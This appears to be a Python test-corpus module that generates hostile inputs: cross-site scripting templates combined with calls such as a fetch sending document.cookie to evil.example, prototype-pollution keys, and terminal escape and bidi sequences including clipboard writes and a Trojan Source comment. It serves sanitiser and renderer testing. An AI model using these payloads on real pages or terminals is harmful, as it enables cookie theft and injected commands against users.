"""What hostile content looks like: for a page, for a terminal."""

CALLS = ("alert(1)", "parent.postMessage(1,'*')", "fetch('http://evil.example/?'+document.cookie)")

TEMPLATES = [
    "<script>{}</script>", "<script src=http://evil.example/x.js></script>", "<ScRiPt>{}</sCrIpT>",
    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<svg onload={}>", "<svg/onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>", "<iframe srcdoc=\"<script>{}</script>\">", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href=\"java&#x0A;script:{}\">x</a>", "<details open ontoggle={}>",
    "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<form action=javascript:{}><button>x</button></form>", "<button formaction=javascript:{}>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>", "<style>@import 'http://evil.example/x.css'</style>",
    "<img src=http://evil.example/x.png>", "![x](http://evil.example/x.png)", "[x](javascript:{})",
    "\"><script>{}</script>", "'><img src=x onerror={}>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</script><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "<![CDATA[<script>{}</script>]]>", "<!--<img src=\"--><img src=x onerror={}>\">",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<template><img src=x onerror={}></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={}&gt;\">",
    "\" onmouseover={} x=\"", "' onfocus={} autofocus '", "` onerror={} `", "javascript:{}", "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{@html '<img src=x onerror={}>'}}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "%3Cscript%3E{}%3C/script%3E",
    "<x onclick={} style=position:fixed;inset:0>", "<p style=\"background:url(javascript:{})\">",
    "<img src=\"x` `<script>{}</script>\"` `>", "<img/src/onerror={}>", "<\x00script>{}</script>",
    "<script\x0d>{}</script>", "\ufeff<script>{}</script>", "＜script＞{}＜/script＞", "<a ping=http://evil.example href=#>x</a>",
]  # fmt: skip

PLAIN = [
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "__defineGetter__",
    "then", "length", "NaN", "undefined", "null", "true", "[object Object]", "0", "-1", "\u202etxt.exe", "\u200b", "\u2028",
    "a" * 250, "🙂" * 60, "Ω≈ç√∫", "\u0301" * 100, "𝕳𝖊𝖑𝖑𝖔",
]  # fmt: skip


def page_payloads() -> list[str]:
    """About two hundred texts that a careless page would run, load or trip over."""
    made = [
        template.format(call) if "{}" in template or "{{" in template else template
        for template in TEMPLATES
        for call in CALLS
    ]
    return [*dict.fromkeys(made), *PLAIN]


ESCAPES = [
    "\x1b[2J", "\x1b[H", "\x1b[31m", "\x1b]0;title\x07", "\x1b]52;c;ZWNobyBvd25lZA==\x07", "\x1b]52;c;?\x1b\\",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x1b]8;;file:///etc/passwd\x07x\x1b]8;;\x07",
    "\x1bP$q\"p\x1b\\", "\x1bP+q544e\x1b\\", "\x1b_Gf=100;x\x1b\\", "\x1b^pm\x1b\\", "\x1bXsos\x1b\\", "\x1b[c", "\x1b[6n", "\x1b[5n",
    "\x1b[?1049h", "\x1b[?25l", "\x1b[?1000h", "\x1b[?2004h", "\x1bc", "\x1b7", "\x1b#8", "\x1b(0", "\x1b[20t", "\x1b[21t",
    "\x1b]50;x\x07", "\x1b]1337;File=inline=1:AAAA\x07", "\x1b]777;notify;x;y\x07", "\x1b]9;x\x07", "\x1b]4;1;?\x07",
    "\x9b31m", "\x9d0;title\x9c", "\x90q\x9c", "\x9fx\x9c", "\x84", "\x85", "\x8d", "\x8e",
    "\x00", "\x01", "\x05", "\x07", "\x08" * 20, "\x0b", "\x0c", "\x0e", "\x0f", "\x18", "\x1a", "\x7f", "one\rtwo", "\x1b\x1b[31m", "\x1b",
    "\u202eexe.txt", "\u202d", "\u2066x\u2069", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c",
    "ad\u200bmin", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u2028", "\u2029", "\U000e0041\U000e007f", "\ufff9",
    "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */", "\u3164", "\u115f",
]  # fmt: skip
"""ANSI, OSC 8 and 52, DCS, C0 and C1, DEL, bidi, zero width, tags: what a terminal obeys or hides."""
